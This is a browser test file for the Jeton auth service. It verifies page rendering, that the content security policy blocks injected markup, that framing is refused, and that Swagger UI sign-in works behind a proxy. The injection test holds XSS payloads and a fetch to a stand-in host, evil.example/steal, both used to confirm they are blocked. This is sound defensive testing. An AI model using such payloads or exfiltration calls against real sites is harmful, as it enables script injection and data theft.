// Jeton's own pages: well made, under a policy that holds, and behind a path of a proxy's too.

import { createServer, request as ask } from "node:http";

import { equal, expect, expectPolicy, seen, shoot, step, visitor, wellMade } from "./browser.mjs";
import { API, ISSUER, PASSWORD, until, startBehindProxy, PROXY } from "./processes.mjs";
import { personIn } from "./swagger.mjs";

/** What a hole in a page would let in: a script within the markup, one from elsewhere, a handler, a style. */
const INJECTED = `<script>window.ran = "inline"</script><script src="https://evil.example/x.js"></script>
  <img src="x:" onerror="window.ran = 'handler'"><style>body { --ran: style }</style>`;
const SHAPES = [
  ["light", { colorScheme: "light" }],
  ["dark", { colorScheme: "dark" }],
  ["phone", { viewport: { width: 360, height: 740 }, isMobile: true, hasTouch: true, colorScheme: "light" }],
  ["phone-dark", { viewport: { width: 360, height: 740 }, isMobile: true, hasTouch: true, colorScheme: "dark" }],
];

export async function pages() {
  for (const [name, options] of SHAPES) await landing(name, options);
  for (const [name, url] of [
    ["the landing page", `${ISSUER}/`], ["Jeton's Swagger UI", `${ISSUER}/docs`],
    ["the page of /my-info", `${API}/`], ["Swagger UI of /my-info", `${API}/docs`],
  ]) await injected(name, url);
  await behindProxy();
}

async function landing(name, options) {
  const context = await visitor(options);
  const page = await context.newPage();
  await step(`the landing page is well made: ${name}`, async () => {
    await page.goto(`${ISSUER}/`);
    await seen(page.getByRole("heading", { name: "Jeton" }));
    await wellMade(page);
    await shoot(page, `landing-${name}`);
    await page.getByRole("link", { name: "Try it" }).click();
    await seen(page.getByRole("button", { name: "Authorize" }).first());
  });
  await context.close();
}

async function injected(name, url) {
  const context = await visitor();
  const page = await context.newPage();
  await step(`${name}: what is injected does not run`, async () => {
    // The same document, with the same policy, as an attacker would like to have it.
    await page.route(url, async (route) => {
      const answer = await route.fetch();
      const text = await answer.text();
      // The last one: Swagger UI's own script speaks of others.
      const end = text.lastIndexOf("</body>");
      await route.fulfill({ response: answer, body: text.slice(0, end) + INJECTED + text.slice(end) });
    });
    expectPolicy();
    await page.goto(url);
    await page.locator("img[onerror]").waitFor({ state: "attached" });
    await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 200)));
    equal(await page.evaluate(() => window.ran ?? null), null, "what ran");
    equal(await page.evaluate(() => getComputedStyle(document.body).getPropertyValue("--ran")), "", "the style");
    const sent = await page.evaluate(() => fetch("https://evil.example/steal").then(() => "sent", () => "blocked"));
    equal(sent, "blocked", "a request to elsewhere");
  });
  await step(`${name}: no other page holds it in a frame`, async () => {
    expectPolicy();
    const other = await context.newPage();
    const frame = url.startsWith(ISSUER) ? `${API}/` : `${ISSUER}/`;
    await other.route(frame, (route) => route.fulfill({ contentType: "text/html", body: `<iframe src="${url}"></iframe>` }));
    await other.goto(frame);
    await until("the frame is refused", async () => {
      const inner = other.frames()[1];
      return inner && (await inner.evaluate(() => location.href)).startsWith("chrome-error:");
    });
    await other.close();
  });
  await context.close();
}

/** A proxy that gives Jeton a path, which Jeton sees (`strips` false) or does not. */
function proxy(target, strips) {
  const server = createServer((incoming, outgoing) => {
    const path = strips ? incoming.url.replace(/^\/auth/, "") || "/" : incoming.url;
    const { hostname, port } = new URL(target);
    const onward = ask({ hostname, port, path, method: incoming.method, headers: incoming.headers }, (answer) => {
      outgoing.writeHead(answer.statusCode, answer.rawHeaders);
      answer.pipe(outgoing);
    });
    onward.on("error", () => outgoing.destroy());
    incoming.pipe(onward);
  });
  return new Promise((resolve) => server.listen(new URL(PROXY).port, "127.0.0.1", () => resolve(server)));
}

async function behindProxy() {
  const target = await startBehindProxy();
  for (const strips of [true, false]) {
    const server = await proxy(target, strips);
    const context = await visitor();
    const page = await context.newPage();
    await step(`Swagger UI signs in behind a path that the proxy ${strips ? "strips" : "keeps"}`, async () => {
      await page.goto(`${PROXY}/auth/`);
      await page.getByRole("link", { name: "Try it" }).click();
      await page.getByRole("button", { name: "Authorize" }).first().click();
      const dialog = page.locator(".modal-ux");
      const person = personIn(dialog);
      await person.locator("#oauth_username").fill("admin");
      await person.locator("#oauth_password").fill(PASSWORD);
      const tokens = page.waitForResponse(`${PROXY}/auth/token`);
      await person.getByRole("button", { name: /^(Apply given OAuth2|Authorize)/ }).click();
      equal((await tokens).status(), 200, "/token");
      await dialog.getByRole("button", { name: /^Close/ }).first().click();
      const block = page.locator("#operations-Account-fetchAccount");
      await block.locator(".opblock-summary-control").click();
      await block.getByRole("button", { name: "Try it out" }).click();
      const account = page.waitForResponse(`${PROXY}/auth/account`);
      await block.getByRole("button", { name: "Execute" }).click();
      equal((await account).status(), 200, "/account");
    });
    await context.close();
    server.closeAllConnections();
    await new Promise((resolve) => server.close(resolve));
  }
}
